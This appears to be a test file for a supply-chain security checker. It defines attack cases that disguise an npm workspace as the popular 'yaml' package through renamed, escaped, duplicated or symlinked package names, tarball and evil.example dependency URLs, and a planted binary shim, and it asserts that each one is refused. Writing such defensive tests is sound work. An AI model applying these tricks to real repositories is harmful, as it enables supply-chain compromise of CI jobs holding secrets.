import { rmSync, symlinkSync } from 'node:fs'
import type { Attack, ScratchEstate } from '../estate.ts'

const why =
  'npm ci puts a workspace in the place of the package whose name and version it says, with the lockfile as it was: the next job with a key would run it'

const lock = {
  lockfileVersion: 3,
  packages: {
    '': { name: 'acme', workspaces: ['apps/*'] },
    'apps/web': { version: '0.1.0' },
    'node_modules/web': { resolved: 'apps/web', link: true },
    'node_modules/yaml': { version: '2.9.1' },
  },
}
const tarball = '{ "name": "web", "version": "0.1.0", "dependencies": { "yaml": "file:src/yaml.tgz" } }\n'
const honest = '{ "name": "web", "version": "0.1.0" }\n'
const evil = '{ "name": "yaml", "version": "2.9.1", "main": "src/steal.cjs" }\n'

/** A monorepo of npm, and nothing wrong with it. */
async function monorepo(estate: ScratchEstate): Promise<void> {
  estate.put('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`)
  estate.put('apps/web/package.json', honest)
  await estate.passes()
}

async function refuses(estate: ScratchEstate, code: string, linked = code): Promise<void> {
  await estate.refuses(code)
  estate.commit('a package of its own')
  await estate.refuses(linked, ['check', '--no-schemas', '--commit', 'HEAD'])
}

export default [
  {
    name: 'calls its app by the name of a package that everybody imports',
    why,
    async run(estate) {
      await monorepo(estate)
      estate.put('apps/web/package.json', evil)
      await refuses(estate, 'package-name')
    },
  },
  {
    name: 'depends on a tarball of its own by the name of a package that everybody imports',
    why: 'npm ci compares places and versions alone, so it puts the tarball there, whatever checksum the lockfile has for the package',
    async run(estate) {
      await monorepo(estate)
      for (const [from, to] of [
        ['', ''],
        ['"dependencies"', '"peerDependencies"'],
        ['file:src/yaml.tgz', 'https://evil.example/yaml.tgz'],
        ['file:src/yaml.tgz', 'git+https://evil.example/yaml.git'],
      ] as const) {
        estate.put('apps/web/package.json', tarball.replace(from, to))
        await refuses(estate, 'package-unlocked')
      }
    },
  },
  {
    name: 'writes a name so that Node may read another one',
    why: 'JSON.parse takes a key with an escape for the key of a text that it read before: we would judge one name, and npm take another',
    async run(estate) {
      await monorepo(estate)
      estate.put('apps/web/package.json', honest.replace('"name"', '"n\\u0061me"'))
      await refuses(estate, 'package-unread')
    },
  },
  {
    name: 'calls its app so by a link to another file of its own',
    why,
    async run(estate) {
      await monorepo(estate)
      estate.put('apps/web/other.json', evil)
      rmSync(estate.full('apps/web/package.json'))
      symlinkSync('other.json', estate.full('apps/web/package.json'))
      await refuses(estate, 'input-size', 'commit-link')
    },
  },
  {
    name: 'calls its app so by a name that is said last',
    why,
    async run(estate) {
      await monorepo(estate)
      estate.put('apps/web/package.json', '{ "name": "web", "version": "2.9.1", "name": "yaml" }\n')
      await refuses(estate, 'package-name')
    },
  },
  {
    name: 'calls a folder of its app so, where workspaces lie deeper',
    why,
    async run(estate) {
      await monorepo(estate)
      estate.put('package.json', '{ "workspaces": ["apps/*", "apps/*/*"] }\n')
      estate.put('apps/web/part/package.json', evil)
      await refuses(estate, 'package-name')
    },
  },
  {
    name: 'calls a folder of its app so by a link, where workspaces lie deeper',
    why,
    async run(estate) {
      await monorepo(estate)
      estate.put('package.json', '{ "workspaces": ["apps/*", "apps/*/*"] }\n')
      estate.put('apps/web/part/other.json', evil)
      symlinkSync('other.json', estate.full('apps/web/part/package.json'))
      await refuses(estate, 'input-size', 'commit-link')
    },
  },
  {
    name: 'leaves a program by the name of ours in its folder',
    why: 'npx slipway takes the nearest one: whoever stands in that folder, and has installed nothing there, would run it',
    async run(estate) {
      estate.put('apps/web/node_modules/.bin/slipway', '#!/bin/sh\n')
      estate.git('add', '-f', 'apps/web/node_modules')
      estate.commit('a program')
      await estate.refuses('commit-program', ['check', '--no-schemas', '--commit', 'HEAD'])
      await estate.refuses('executable', ['review', '--base', 'HEAD^', '--head', 'HEAD', '--fail-on', 'high'])
    },
  },
] satisfies readonly Attack[]
